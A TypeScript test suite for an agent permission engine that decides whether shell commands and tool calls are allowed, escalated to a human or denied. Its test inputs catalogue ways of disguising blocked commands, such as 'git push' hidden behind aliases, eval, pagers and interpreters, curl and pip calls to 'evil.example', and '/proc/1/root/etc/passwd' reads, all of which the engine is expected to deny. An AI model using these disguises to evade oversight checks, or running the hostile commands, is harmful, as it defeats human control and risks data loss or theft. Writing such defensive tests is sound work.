import { expect, test } from "vitest";
import { commandCall, knowing, tryingCall } from "../../../test/cases/trying.ts";
import { cpuMsOf } from "../../../test/cpu.ts";
import type { ToolCall } from "../call.ts";
import { classify } from "../classify/classify.ts";
import { readCall } from "../classify/reading.ts";
import { emptyPolicy, type Policy, type Rule } from "../policy.ts";
import { sha256 } from "../values/hash.ts";
import { compilePolicy } from "./compile.ts";
import { decide } from "./decide.ts";
import { bareStanding } from "./standing.ts";

const at = { file: "leeway.yaml", line: 1, column: 1 };
const version = sha256("maybe");
const PROJECT = "/home/ana/project";

function rule(match: Rule["match"], human = false): Rule {
  const examples = { match: [], miss: [] };
  const tier = human ? "ask" : "deny";
  return { name: "no", match, tier, because: "never", examples, human, firm: false, reviewers: [], at };
}

type Preset = NonNullable<Policy["preset"]>["name"];

function decided(call: ToolCall, policy: Partial<Policy>, preset: Preset = "standard") {
  const file = { ...emptyPolicy("leeway.yaml", version), preset: { name: preset, at }, root: PROJECT, ...policy };
  return decide(call, classify(readCall(call), knowing(call)), bareStanding([compilePolicy(file)], version), 0);
}

function denied(commands: readonly string[], policy: Partial<Policy>, preset?: Preset): readonly string[] {
  return commands.filter((command) => decided(commandCall(command), policy, preset).tier === "deny");
}

const PUSH = { rules: [rule({ command: ["git push *"] })] };
const FORCE = { rules: [rule({ command: ["git push --force *"] })] };
const REMOVE = { rules: [rule({ command: ["rm -rf *"] })] };
const WRITING = { rules: [rule({ class: ["fs.write", "fs.delete"], path: ["infra/**"] })] };
const EVIL = { rules: [rule({ domain: ["evil.example"] })] };

test("a word that is known only at run time is denied if a rule could deny it", () => {
  const push = [
    "git $X",
    'git "$X" origin',
    "git $(cat a)",
    "git pu$X",
    "git -C src $X",
    'git "$@"',
    "cat a | xargs git",
    "for c in push pull; do git $c; done",
  ];
  expect(denied(push, PUSH)).toEqual(push);
  const remove = ["rm $X build", 'rm "$X" build', "rm -r$X build", "ls | xargs rm $X", `a=(-rf b); rm "\${a[@]}"`];
  expect(denied(remove, REMOVE)).toEqual(remove);
  const force = ["X='push --force a'; git $X", "git push $X", 'git push origin "$X"'];
  expect(denied(force, FORCE)).toEqual(force);
});

test("a word that is known only at run time is not denied if no rule can match it", () => {
  const harmless = [
    'git commit -m "$X"',
    "git log $X",
    "git status $X",
    "echo $X",
    'git log --since="$X"',
    "git checkout $(git rev-parse HEAD)",
  ];
  expect(denied(harmless, PUSH)).toEqual([]);
  expect(
    denied(['git commit -m "$X"', 'git log "$X"'], { rules: [rule({ command: ["git commit --amend *"] })] }),
  ).toEqual([]);
  expect(denied(["head -n $(wc -l < a) b", "rm a", "rm -r a"], REMOVE)).toEqual([]);
});

test("a program that is known only at run time is denied if anything is denied", () => {
  const unknown = ["$X push", "$(cat a) b", 'eval "$X"', "cat a | bash", 'bash -c "$X"', "echo $($(ls))"];
  for (const policy of [PUSH, EVIL, { rules: [rule({ class: ["deploy.write"] })] }])
    expect(denied(unknown, policy)).toEqual(unknown);
  expect(denied(unknown, {})).toEqual([]);
});

test("a path that is known only at run time, or whose start is unknown, is denied if it could be a denied path", () => {
  const paths = [
    "rm $X",
    "echo x > $X",
    "touch infra/$X",
    'eval "$Z"; touch infra/a',
    ". ./a.sh; rm infra/a",
    "f() { rm infra/a; }; f",
    "cat a | xargs rm",
  ];
  expect(denied(paths, WRITING)).toEqual(paths);
  expect(denied(["cat $X", "rm src/$X", "echo x > /tmp/$X", "f() { rm src/a; }; f"], WRITING)).toEqual([]);
});

test("an address whose start alone is known is denied if it might be a denied address", () => {
  const going = [
    "curl $X",
    'curl "https://$X/a"',
    'curl "https://evil.example/$X"',
    "curl 'https://{good,evil}.example'",
    "curl 'https://ev[h-j]l.example'",
    "curl -x evil.example https://good.example",
    "https_proxy=http://evil.example:1 curl https://good.example",
    "pip install https://evil.example/a.whl",
    "docker pull evil.example/a",
    "ssh -J evil.example good.example",
    "git pull https://evil.example/a main",
    "dig evil.example",
    "node -e \"fetch('https://evil.example')\"",
    "cat a | xargs curl",
  ];
  expect(denied(going, EVIL)).toEqual(going);
  const elsewhere = [
    'curl "https://good.example/$X"',
    "git commit -m 'see https://evil.example'",
    "grep -rn evil.example src",
    "curl -d 'see https://evil.example' https://good.example",
    "echo https://evil.example",
    "npm test",
  ];
  expect(denied(elsewhere, EVIL)).toEqual([]);
});

test("an address is denied if the address inside it is denied", () => {
  const rules = [rule({ domain: ["127.0.0.1"] })];
  for (const url of ["http://[::ffff:127.0.0.1]/", "http://[::ffff:7f00:1]/a", "http://[64:ff9b::7f00:1]/"])
    expect({ url, tier: decided(tryingCall("WebFetch", { url, prompt: "x" }), { rules }).tier }).toEqual({
      url,
      tier: "deny",
    });
});

test("a denied program is denied in another folder, and behind a program that starts it", () => {
  const others = [
    "../../../usr/bin/git push",
    "/opt/git/bin/git push",
    "./git push",
    "/usr/lib/git-core/git-push origin",
    "git-push origin",
    "strace -f git push",
    "chroot / git push",
    "taskset 1 git push",
    "tmux new -d 'git push'",
    "at now <<< 'git push'",
    "echo 'git push' | at now",
    "ls | entr git push",
    "/lib64/ld-linux-x86-64.so.2 /usr/bin/git push",
    "vim -c '!git push' -c q",
    "git -c alias.x=push x",
    "git -c core.pager='git push' log",
    "GIT_PAGER='git push' git log",
    "alias x='git push'; x",
  ];
  expect(denied(others, PUSH, "autonomous")).toEqual(others);
  const rows = { tiers: [{ for: "class" as const, name: "git.write", tier: "deny" as const, at }] };
  expect(denied(others.slice(0, 8), rows, "autonomous")).toEqual(others.slice(0, 8));
  expect(denied(["./gradlew build", "strace ls", "/opt/a/git status", "tmux ls"], PUSH, "autonomous")).toEqual([]);
});

test("options before the subcommand, and options joined with their value, do not hide a denied command", () => {
  const hidden: readonly [rule: string, commands: readonly string[]][] = [
    ["aws s3 rm *", ["aws --profile p s3 rm s3://x", "aws s3 --region r rm s3://x", "aws --color off s3 rm s3://x"]],
    [
      "gcloud projects delete *",
      ["gcloud --project p projects delete x", "gcloud --verbosity debug projects delete x"],
    ],
    ["docker compose down *", ["docker compose -p x down", "docker --context c compose --ansi never down -v"]],
    ["kubectl delete *", ["kubectl --request-timeout 5s delete pod y", "kubectl -v 9 delete pod y"]],
    ["redis-cli flushall *", ["redis-cli -h h -p 1 flushall", "redis-cli FLUSHALL", "redis-cli -n 1 FlushAll"]],
    ["curl -X POST *", ["curl -XPOST h.example", "curl -sXPOST h.example", "curl --reques POST h.example"]],
    ["sed -i *", ["sed -i.bak s/a/b/ x"]],
    ["zz up *", ["zz --at there up", "zz -v --at there up now"]],
  ];
  for (const [pattern, commands] of hidden)
    expect(denied(commands, { rules: [rule({ command: [pattern] })] }, "autonomous")).toEqual(commands);
  const others = ["git --no-pager log push", "git log --grep push", "git -C push status", "git commit -m push"];
  expect(denied(others, PUSH, "autonomous")).toEqual([]);
});

test("a long script of commands with options needs no question and is read quickly", () => {
  const lines = (of: (i: number) => string) => Array.from({ length: 150 }, (_, i) => of(i)).join("\n");
  const long = [
    lines((i) => `git --no-pager diff HEAD~${i} -- src/a`),
    lines((i) => `git -C src log -n ${i} --grep x${i}`),
    lines((i) => `grep --include 'a${i}*' x src`),
  ];
  const rules = Array.from({ length: 50 }, (_, i) => ({ ...rule({ command: [`git x${i} *`] }), name: `no-${i}` }));
  const tookMs = cpuMsOf(() => {
    expect(long.map((command) => decided(commandCall(command), { rules }).tier)).toEqual(["auto", "auto", "auto"]);
  });
  expect(tookMs).toBeLessThan(6_000);
});

test("a command is denied under every name of its program", () => {
  const names: readonly [rule: string, commands: readonly string[]][] = [
    ["pip install *", ["pip3 install x", "pip3.12 install x", "python -m pip install x", "python3 -m pip install x"]],
    ["kubectl delete *", ["k delete pod y", "oc delete pod y", "minikube kubectl -- delete pod y"]],
    ["helm uninstall *", ["helm un x", "helm delete x"]],
    ["docker compose down *", ["docker-compose down"]],
    ["docker run *", ["docker container run x"]],
    ["git push *", ["git.exe push", "GIT push", "xvfb-run git push", "cross-env A=1 git push", "env -S'-i git push'"]],
    ["git push --force *", ["git push origin +main", "git push --mirror"]],
    ["git push *", [`python3 -c 'import os;os.system("git push")'`, `awk 'BEGIN{system("git push")}'`]],
    ["git push *", ["test -v 'a[$(git push)]'", "printf -v 'a[`git push`]' x", "unset 'a[$(git push)]'"]],
  ];
  for (const [pattern, commands] of names)
    expect(denied(commands, { rules: [rule({ command: [pattern] })] }, "autonomous")).toEqual(commands);
});

test("files that a program is told to install, send or restore are denied if reading them is denied", () => {
  const rules = [rule({ path: ["infra/**"] })];
  const told = [
    "kubectl apply -f infra/a",
    "kubectl apply --filename=infra/a",
    "kubectl apply -finfra/a",
    "gcc -oinfra/a x.c",
    "helm install x y --values=infra/a",
    "ansible-playbook infra/a",
    "git checkout HEAD infra/a",
    "git add infra/a",
    "setfacl -m u:x:r infra/a",
    "cat /proc/$$/cwd/infra/a",
  ];
  expect(denied(told, { rules }, "autonomous")).toEqual(told);
  const doubted = [
    "patch -d infra < x",
    "cpio -iD infra < x",
    "git apply --directory=infra x",
    "sqlite3 x '.read infra/a'",
    `awk '{while((getline l < "infra/a")>0) print l}' x`,
    `python3 -c "open('infra/a')"`,
  ];
  expect(denied(doubted, { rules }, "autonomous")).toEqual(doubted);
  const hosts = ["curl --connect-to ::evil.example: https://a.example", "getent hosts evil.example"];
  expect(denied(hosts, EVIL, "autonomous")).toEqual(hosts);
  expect(denied(["git checkout infra/fix", "kubectl apply -f src/a"], { rules }, "autonomous")).toEqual([]);
  expect(denied(["curl --preproxy socks5://evil.example https://a.example"], EVIL, "autonomous")).toHaveLength(1);
});

test("a command that needs a person also needs one if its program is named by a path", () => {
  const policy: Partial<Policy> = { human: { all: false, classes: ["git.write"], tools: [], agents: [], not: [], at } };
  expect(decided(commandCall("git push"), policy, "autonomous").needsHuman).toBe(true);
  expect(decided(commandCall("../../../usr/bin/git push"), policy, "autonomous").needsHuman).toBe(true);
});

test("code in another language needs no person because of what its text would be in a shell, and its texts are still compared with rules that deny", () => {
  const needsHuman = (command: string) => decided(commandCall(command), {}).needsHuman;
  const code = [
    "node -e 'export const price=n=>n*2'",
    "node --input-type=module -e 'export const a=b=>c*2; console.log(a(2))'",
    `python3 -c 'x = "sudo rm"; print(x)'`,
    "ruby -e 'export = 1'",
    "make A='sudo rm a'",
  ];
  expect(code.filter(needsHuman)).toEqual([]);
  expect(
    ["strace sudo rm a", "../../bin/sudo rm a", "sh -c 'export PATH=x; sudo rm a'"].filter(needsHuman),
  ).toHaveLength(3);
  const rules = [rule({ command: ["git push *"] })];
  const pushing = [
    `python3 -c 'import os; os.system("git push a")'`,
    `node -e 'require("child_process").execSync("git push a")'`,
  ];
  expect(denied(pushing, { rules })).toEqual(pushing);
});

test("a path through another process's view of the disk counts as the real path", () => {
  const rules = [rule({ path: ["/etc/passwd"] })];
  const paths = ["cat /proc/1/root/etc/passwd", "cat /proc/self/root/etc/passwd", "cat /proc/1/task/1/root/etc/passwd"];
  expect(denied(paths, { rules })).toEqual(paths);
});

test("an unknown tool is denied if an argument looks like a denied command or address", () => {
  const { tier: byUrl } = decided(tryingCall("zz_tool", { a: { url: "https://evil.example/x" } }), EVIL);
  const { tier: byCommand } = decided(tryingCall("zz_tool", { a: { command: "git push origin" } }), PUSH);
  const { tier: other } = decided(tryingCall("zz_tool", { a: { command: "git status" } }), PUSH);
  expect([byUrl, byCommand, other]).toEqual(["deny", "deny", "ask"]);
});

test("a command with too many unknown words is denied, and quickly", () => {
  const many = Array.from({ length: 300 }, (_, i) => `git $X${i} a${i}`).join("\n");
  const rules = Array.from({ length: 50 }, (_, i) => ({ ...rule({ command: [`git x${i} *`] }), name: `no-${i}` }));
  const tookMs = cpuMsOf(() => {
    expect(decided(commandCall(many), { rules }).tier).toBe("deny");
  });
  expect(tookMs).toBeLessThan(6_000);
});
